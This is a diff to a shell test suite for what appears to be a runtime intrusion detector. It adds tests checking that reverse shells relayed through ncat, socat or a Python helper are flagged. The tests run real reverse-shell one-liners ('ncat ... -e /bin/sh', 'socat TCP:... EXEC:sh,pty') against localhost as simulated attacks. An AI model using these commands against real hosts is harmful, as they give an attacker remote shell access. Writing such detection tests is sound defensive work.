@@ -34,6 +34,10 @@ attacks() {
 	at shell-bind perl -e "$perl_bind" 7004 &
 	until_true 20 bash -c ': >/dev/tcp/127.0.0.1/7004'
 	wait $!
+	for port in 7007 7008 7009; do with_peer $port $'exit\n'; done
+	at relay-pipe ncat 127.0.0.1 7007 -e /bin/sh
+	at relay-late python3 "$REPO/tests/corpus/own/lib/relay.py" late 7008
+	at relay-terminal socat TCP:127.0.0.1:7009 EXEC:sh,pty
 	mkdir memory deleted server shared
 	cp /bin/true memory/t
 	at memory act memfd-exec hidden ./t x
@@ -64,6 +68,7 @@ harmless() {
 	printf '#!/bin/sh\n:\n' >harmless-server/cgi
 	chmod 755 harmless-server/cgi
 	at harmless-server ./nginx spawn /bin/true , spawn ./cgi
+	at harmless-driven python3 -c 'import subprocess; subprocess.run("sh", input=b"exit\n", stdout=subprocess.PIPE)'
 	at harmless-memfd act memfd plain , mmap-exec /bin/true
 	at harmless-shm act open /dev/shm/data cw
 	at harmless-newns unshare -pf --mount-proc sh -c '/bin/true; /bin/true'
@@ -106,6 +111,12 @@ finds() { has ".rule.name == \"$2\" and (.process.working_directory | endswith(\
 @test "a bind shell: the connection came in" {
 	finds shell-bind bind-shell '.process.io.inbound and (.process.executable | test("/(da)?sh$"))'
 	hasnt '.rule.name == "reverse-shell" and (.process.working_directory | endswith("/shell-bind"))'
+}
+
+@test "shells that other processes carry bytes to: the connection before the shell, after it, a terminal" {
+	finds relay-pipe reverse-shell-relay '.process.io.relay.name == "ncat" and .process.io.remote == {"ip":"127.0.0.1","port":7007} and .process.io.relay.hops == 1'
+	finds relay-late reverse-shell-relay '.process.io.peer.name == "python3" and .process.io.remote.port == 7008'
+	finds relay-terminal reverse-shell-relay '.process.io.relay.name == "socat" and .process.io.stdin == "tty" and (.kwp.path | startswith("stdin <- pty <- socat"))'
 }
 
 @test "programs without a file, without a name, in shared memory" {
